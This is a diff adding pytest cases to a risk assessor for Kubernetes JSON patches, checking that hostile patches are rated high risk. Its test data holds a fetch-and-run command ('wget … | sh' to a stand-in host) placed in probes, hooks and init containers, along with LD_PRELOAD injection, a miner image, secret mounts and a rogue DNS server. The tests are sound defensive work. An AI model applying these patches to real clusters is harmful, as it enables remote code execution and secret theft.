@@ -42,6 +42,54 @@ HOSTILE = {
 }
 
 
+# The adversarial run's probes that rated medium under "low unless a rule names the danger" (14 of 15 did).
+WGET = ["sh", "-c", "wget -qO- http://203.0.113.9/x | sh"]
+UNLISTED = {
+    "livenessProbe exec": [{"op": "add", "path": f"{C}/livenessProbe", "value": {"exec": {"command": WGET}}}],
+    "readinessProbe exec": [{"op": "add", "path": f"{C}/readinessProbe", "value": {"exec": {"command": WGET}}}],
+    "startupProbe exec": [{"op": "add", "path": f"{C}/startupProbe", "value": {"exec": {"command": WGET}}}],
+    "probe httpGet to another host": [{"op": "add", "path": f"{C}/livenessProbe",
+                                       "value": {"httpGet": {"host": "203.0.113.9", "path": "/", "port": 80}}}],
+    "postStart hook": [{"op": "add", "path": f"{C}/lifecycle", "value": {"postStart": {"exec": {"command": WGET}}}}],
+    "preStop hook": [{"op": "add", "path": f"{C}/lifecycle", "value": {"preStop": {"exec": {"command": WGET}}}}],
+    "env LD_PRELOAD": [{"op": "add", "path": f"{C}/env/-", "value": {"name": "LD_PRELOAD", "value": "/tmp/x.so"}}],
+    "envFrom a secret": [{"op": "add", "path": f"{C}/envFrom", "value": [{"secretRef": {"name": "db-admin"}}]}],
+    "a secret volume mounted": [
+        {"op": "add", "path": f"{POD}/volumes", "value": [{"name": "s", "secret": {"secretName": "db-admin"}}]},
+        {"op": "add", "path": f"{C}/volumeMounts", "value": [{"name": "s", "mountPath": "/s"}]}],
+    "an image from an unknown registry": [{"op": "replace", "path": f"{C}/image", "value": "evil.example/miner:1"}],
+    "an init container": [{"op": "add", "path": f"{POD}/initContainers",
+                           "value": [{"name": "init", "image": "busybox", "command": WGET}]}],
+    "a label the Service selects": [{"op": "add", "path": "/spec/template/metadata/labels/app", "value": "billing"}],
+    "a pod securityContext": [{"op": "add", "path": f"{POD}/securityContext", "value": {"runAsUser": 0}}],
+    "a memory limit removed": [{"op": "remove", "path": f"{C}/resources/limits/memory"}],
+    "a memory limit ×100": [{"op": "replace", "path": f"{C}/resources/limits/memory", "value": "6400Mi"}],
+    "dnsConfig": [{"op": "add", "path": f"{POD}/dnsConfig", "value": {"nameservers": ["203.0.113.9"]}}],
+}
+
+
+@pytest.mark.parametrize("case", sorted(UNLISTED))
+def test_whatever_is_not_known_safe_is_high_risk(worker, case):
+    risk = assess(build_json_patch(worker, UNLISTED[case]))
+    assert risk.level == "high", (case, risk.factors)
+    assert any("not a known-safe change" in f for f in risk.factors), risk.factors
+
+
+@pytest.mark.parametrize(("label", "patch", "level"), [
+    ("memory limit ×4", [{"op": "replace", "path": f"{C}/resources/limits/memory", "value": "256Mi"}], "low"),
+    ("memory limit ×5 (over the floor)", [{"op": "replace", "path": f"{C}/resources/limits/memory",
+                                           "value": "2560Mi"}], "high"),
+    ("a cpu request where none was", [{"op": "replace", "path": f"{C}/resources/requests/cpu", "value": "200m"}],
+     "low"),
+    ("an ephemeral-storage request", [{"op": "add", "path": f"{C}/resources/requests/ephemeral-storage",
+                                       "value": "1Gi"}], "high"),
+    ("a probe's HTTP path", [{"op": "add", "path": f"{C}/readinessProbe",
+                              "value": {"httpGet": {"path": "/healthz"}}}], "high"),  # a new probe is not a path
+])
+def test_the_bounds_of_known_safe_changes(worker, label, patch, level):
+    assert assess(build_json_patch(worker, patch)).level == level, label
+
+
 @pytest.mark.parametrize("case", sorted(HOSTILE))
 def test_dangerous_content_is_high_risk(worker, case):
     patch = HOSTILE[case]
